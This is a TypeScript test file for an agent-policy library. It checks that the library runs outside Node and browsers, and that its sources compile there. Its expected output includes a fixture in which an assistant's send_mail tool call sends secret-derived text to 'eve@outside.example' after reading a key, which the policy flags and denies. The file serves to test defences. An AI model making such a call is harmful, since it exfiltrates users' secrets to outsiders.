/**
 * The library outside of Node: what it needs is the language, and `@cordon/core`. The same in a real browser is
 * `e2e/commands/browser.test.ts`.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { isJsonObject, type JsonObject, parseJson } from '@cordon/core';

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));

function reportOfBareRealm(): JsonObject {
  const program = fileURLToPath(new URL('bare-realm/run.ts', import.meta.url));
  const ran = spawnSync(process.execPath, ['--no-warnings', '--experimental-vm-modules', program], {
    encoding: 'utf8',
    timeout: 300_000,
  });
  assert.equal(ran.stderr, '');
  const report = parseJson(ran.stdout);
  assert.ok(report.ok && isJsonObject(report.value));
  return report.value;
}

test('in a realm without Node and without a browser a program can do all that the library offers', () => {
  const { ofHosts, ...report } = reportOfBareRealm();
  assert.deepEqual(ofHosts, [], 'the realm is not bare');
  assert.deepEqual(report, {
    errors: [
      ['no-mail-after-inbox', 'mail goes to a stranger', ['2', '3.tool_calls.0']],
      ['keys-are-noticed', 'a key', ['2', '2.content:2-10']],
      ['rule-3', 'shall it go', ['3.tool_calls.0', '3.tool_calls.0.function.arguments.text:0-3']],
    ],
    undecided: [],
    verdicts: ['allow', 'allow', 'allow', 'deny'],
    steps: [
      ['1.tool_calls.0', 'other'],
      ['2', 'source'],
      ['3.tool_calls.0', 'sink'],
    ],
    masked: [
      { role: 'tool', tool_call_id: '1', content: '🔑 ********' },
      {
        role: 'assistant',
        content: null,
        tool_calls: [
          {
            id: '2',
            type: 'function',
            function: { name: 'send_mail', arguments: '{"to":"eve@outside.example","text":"***ment"}' },
          },
        ],
      },
    ],
    diagnostics: [['POL012', 2, 9]],
    lint: ['POL066'],
    formatted: 'raise "x" if:\n    (c: ToolCall)\n    c is tool:f\n',
    printed: 'raise "x" if:\n    (c: ToolCall)\n    c is tool:f\n',
    anthropic: ['anthropic', 3],
    formats: 7,
    noTrace: { ok: false, fault: { path: '', message: 'a trace is a list of events' } },
  });
});

test('the sources compile where neither Node nor a browser is known', () => {
  assert.deepEqual(compiled("export * from '@cordon/policy-tools';\n"), { status: 0, output: '' });
});

test('a source that takes something of Node or of a browser would not', () => {
  const { status, output } = compiled(
    'export const now: number = performance.now();\nexport const bytes = Buffer.alloc(1);\n',
  );
  assert.equal(status, 1);
  assert.match(output, /'performance'.*'Buffer'/s);
});

/** What the compiler says of a program that knows the language only. */
function compiled(text: string): { readonly status: number | null; readonly output: string } {
  const folder = mkdtempSync(join(tmpdir(), 'cordon-types-'));
  try {
    symlinkSync(join(ROOT, 'node_modules'), join(folder, 'node_modules'));
    writeFileSync(join(folder, 'program.ts'), text);
    // The one type of a host that core names; Node and browsers have it.
    writeFileSync(join(folder, 'host.d.ts'), 'interface AbortSignal {}\n');
    writeFileSync(
      join(folder, 'tsconfig.json'),
      JSON.stringify({
        extends: join(ROOT, 'tsconfig.base.json'),
        compilerOptions: { types: [] },
        files: ['program.ts', 'host.d.ts'],
      }),
    );
    const compiler = join(ROOT, 'node_modules/typescript/bin/tsc');
    const ran = spawnSync(process.execPath, [compiler, '-p', folder], { encoding: 'utf8', timeout: 300_000 });
    return { status: ran.status, output: ran.stdout };
  } finally {
    rmSync(folder, { recursive: true });
  }
}
